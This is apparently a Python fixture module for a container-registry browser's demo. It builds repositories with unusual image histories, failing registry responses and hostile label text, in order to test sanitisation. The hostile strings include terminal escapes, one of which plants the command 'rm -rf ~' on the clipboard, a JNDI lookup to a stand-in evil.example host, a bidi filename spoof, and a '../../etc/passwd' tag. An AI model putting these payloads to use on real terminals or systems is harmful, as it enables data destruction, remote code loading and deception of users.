"""Repositories to see what happens with: strange histories, hostile text, and every way in which a registry fails."""

from __future__ import annotations

from dataclasses import replace
from functools import partial
from typing import Final

from regbrowse.demo.builds import GO, NODE, OLD_NGINX, POSTGRES, SERVICE
from regbrowse.demo.layout import JSON_TYPE, Answer, Content, Image, Recipe, Repository
from regbrowse.demo.recipes import Build, Step, image, index, platform
from regbrowse.demo.releases import of_images
from regbrowse.registry.media_types import OCI_MANIFEST

_ALTERED: Final = Content.of(OCI_MANIFEST, b"what someone else put here").digest

HEREDOC: Final = Build(
    (
        *GO.steps[:1],
        Step(
            "RUN /bin/sh -c set -eux\napt-get update\n"
            "apt-get install -y --no-install-recommends \\\n    ca-certificates \\\n"
            "    curl\nrm -rf /var/lib/apt/lists/*\n # buildkit",
            7.3,
        ),
        Step(
            "RUN /bin/sh -c cat > /etc/app.yaml <<EOF\n"
            "listen: 0.0.0.0:8080\nlog:\n  level: info\n  format: json\nEOF\n # buildkit",
            0.0004,
        ),
        Step(
            "RUN /usr/bin/env python3 -c import json, sys\n"
            "for line in sys.stdin:\n    print(json.loads(line)['name'])\n # buildkit",
            0.002,
        ),
        Step('CMD ["/app"]'),
    ),
    GO.config,
)


def histories() -> Repository:
    """`demo/histories`: builders' handwritings, and histories that do not fit their layers."""
    entry = {"created": "1970-01-01T00:00:00Z", "created_by": "bazel build ..."}
    long_ago = {"created": "1970-01-01T00:00:00Z"}
    return Repository(
        {
            "old-builder": partial(image, OLD_NGINX, "1.17.9"),
            "buildkit": partial(image, POSTGRES, "17.2"),
            "heredoc": partial(image, HEREDOC, "1.0.0"),
            "fewer-entries-than-layers": partial(image, GO, "1.0.1", replaced={"history": [entry]}),
            "more-entries-than-layers": partial(image, GO, "1.0.2", replaced={"history": [entry] * 5}),
            "none": partial(image, GO, "1.0.3", replaced={"history": None, "created": None}),
            "reproducible": partial(image, GO, "1.0.4", replaced={**long_ago, "history": [entry, entry]}),
            "only-empty-layers": partial(image, Build(GO.steps[2:], GO.config), "1.0.5"),
            "very-long": partial(image, Build(NODE.steps[:2] + _many_steps(), NODE.config), "1.0.6"),
        }
    )


def _many_steps() -> tuple[Step, ...]:
    return tuple(Step(f"COPY part-{place:03} /opt/parts/ # buildkit", place / 40) for place in range(1, 121))


# Text that a registry might send to take over a terminal, hide what it says, or break out of its cell.
_HOSTILE: Final = {
    "escape.colours": "\x1b[31mred\x1b[0m and \x1b[5mblinking",
    "escape.title": "\x1b]0;a new window title\x07",
    "escape.clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "escape.link": "\x1b]8;;https://evil.example\x1b\\a link\x1b]8;;\x1b\\",
    "escape.c1": "\x9b31mred by one byte",
    "escape.clear": "\x1b[2J\x1b[Hthe screen is gone",
    "control.nul": "before\x00after",
    "control.backspace": "safe\b\b\b\bevil",
    "control.return": "the end of the line\rthe start",
    "control.bell": "\a\a\a",
    "bidi.override": "user\u202e\u2066txt.exe\u2069\u202c",
    "invisible.zero-width": "pass\u200bword\u2060\ufeff",
    "invisible.tags": "tagged\U000e0041\U000e0042",
    "markup.bold": "[bold red]markup[/] [@click=app.quit]press[/] [/nothing]",
    "markup.link": "[link=https://evil.example]text[/link] ${jndi:ldap://evil.example/a}",
    "unicode.cjk": "日本語の説明 中文说明 한국어 설명",
    "unicode.emoji": "🚀 ship 👩‍👩‍👧‍👦 family 🇩🇪 flag 👍🏽 thumb ❤️ heart",
    "unicode.marks": "Z" + "\u0351\u036b\u0343\u036a" * 40 + "algo",
    "unicode.right-to-left": "שלום עולם مرحبا بالعالم",
    "\x1b[31mkey\x1b[0m [bold]too[/]": "a label's name may be hostile as well",
    "line.breaks": "one\ntwo\r\nthree\x0bfour\u2028five\x85six",
    "empty": "",
}


def hostile_labels() -> Repository:
    """`demo/hostile-labels`: labels, histories and settings that no screen may pass on as they are."""
    texts = tuple(_HOSTILE.values())
    return of_images(
        (
            ("labels", Build(GO.steps, {**GO.config, "Labels": _HOSTILE})),
            ("half-a-pair", Build(GO.steps, {**GO.config, "Labels": {"unicode.surrogate": "half \ud83d of a pair"}})),
            ("long-labels", Build(GO.steps, {**GO.config, "Labels": _long_labels()})),
            (
                "history",
                Build(tuple(Step(f"RUN /bin/sh -c echo {text}", 1.5, comment=text) for text in texts), GO.config),
            ),
            (
                "settings",
                Build(
                    GO.steps,
                    {
                        "Env": [f"TEXT_{place}={text}" for place, text in enumerate(texts)],
                        "Entrypoint": list(texts[:5]),
                        "User": texts[0],
                        "WorkingDir": texts[10],
                    },
                ),
            ),
        )
    )


def _long_labels() -> dict[str, str]:
    return {
        "a.long.text": "All work and no play makes a long label. " * 200,
        "a.long.word": "x" * 6_000,
        "a.long.json": '{"a":' * 800 + "1" + "}" * 800,
        "wide.characters": "漢字" * 1_500,
        "k" * 300: "a long name",
        **{f"one.of.many.{place:03}": f"value {place}" for place in range(200)},
    }


def slow() -> Repository:
    """`states/slow`: every answer takes its time."""
    return Repository(
        {version: partial(image, SERVICE, version) for version in ("1.0.0", "1.0.1", "latest")}, delay=1.5
    )


def refusing(status: int, code: str, message: str, *headers: tuple[str, str]) -> Repository:
    """A repository whose every answer is the same failure."""
    return Repository({}, refusal=Answer.error(status, code, message, *headers))


def empty() -> Repository:
    """`states/empty`: a repository whose tags were all deleted; the registry says `"tags": null`."""
    return Repository({})


def half_listed() -> Repository:
    """`states/half-listed`: the first page of tags comes, the second fails."""
    recipe = partial(image, GO, "1.0.0")
    tags = [f"1.0.{patch}" for patch in range(1_500)]
    return Repository(
        dict.fromkeys(tags, recipe), later_pages=Answer.error(500, "UNKNOWN", "the storage does not answer")
    )


def odd_tags() -> Repository:
    """`states/odd-tags`: tags outside the grammar, as some registries list them; they can be shown, not opened."""
    recipe = partial(image, GO, "1.0.0")
    tags = (
        "1.0.0",
        recipe().top.digest,
        "../../etc/passwd",
        "1.0\x1b[31m.1",
        "user\u202etxt",
        "[bold]1.0[/]",
        "x" * 200,
        "",
        " ",
    )
    return Repository(dict.fromkeys(tags, recipe))


def broken() -> Repository:
    """`states/broken`: each tag fails in its own way, but for `works`."""
    recipes: dict[str, Recipe] = {
        "works": partial(image, GO, "1.0.0"),
        "wrong-digest": _wrong_digest,
        "altered-platform": _altered_platform,
        "altered-config": _altered_config,
        "no-config": lambda: replace(image(GO, "1.0.4"), blobs=()),
        "not-json": partial(Answer, 200, b'{"schemaVersion": 2, "config', OCI_MANIFEST),
        "not-a-manifest": partial(Answer, 200, b'["a", "list"]', JSON_TYPE),
        "html": partial(
            Answer, 200, b"<!doctype html>\n<title>Log in to the proxy</title>\n", "text/html; charset=utf-8"
        ),
        "gone": partial(Answer.error, 404, "MANIFEST_UNKNOWN", "manifest unknown"),
        "error-500": partial(Answer.error, 500, "UNKNOWN", "unknown error"),
        "error-503-html": partial(Answer, 503, b"<html><h1>503 Service Unavailable</h1></html>", "text/html"),
        "rate-limited": partial(
            Answer.error, 429, "TOOMANYREQUESTS", "You have reached your pull rate limit.", ("Retry-After", "120")
        ),
    }
    return Repository(recipes)


def _wrong_digest() -> Image:
    good = image(GO, "1.0.1")
    return replace(good, manifests=(replace(good.top, digest=_ALTERED),))


def _altered_platform() -> Image:
    """An index whose second image is not what its descriptor says."""
    amd64, arm64 = image(GO, "1.0.2"), image(GO, "1.0.2", runs_on="linux/arm64/v8")
    altered = replace(arm64, manifests=(replace(arm64.top, data=arm64.top.data.replace(b'"layers"', b'"Layers"')),))
    return index([(amd64, {"platform": platform("linux/amd64")}), (altered, {"platform": platform("linux/arm64/v8")})])


def _altered_config() -> Image:
    good = image(GO, "1.0.3")
    return replace(good, blobs=tuple(replace(blob, data=blob.data.replace(b"65532", b"00000")) for blob in good.blobs))
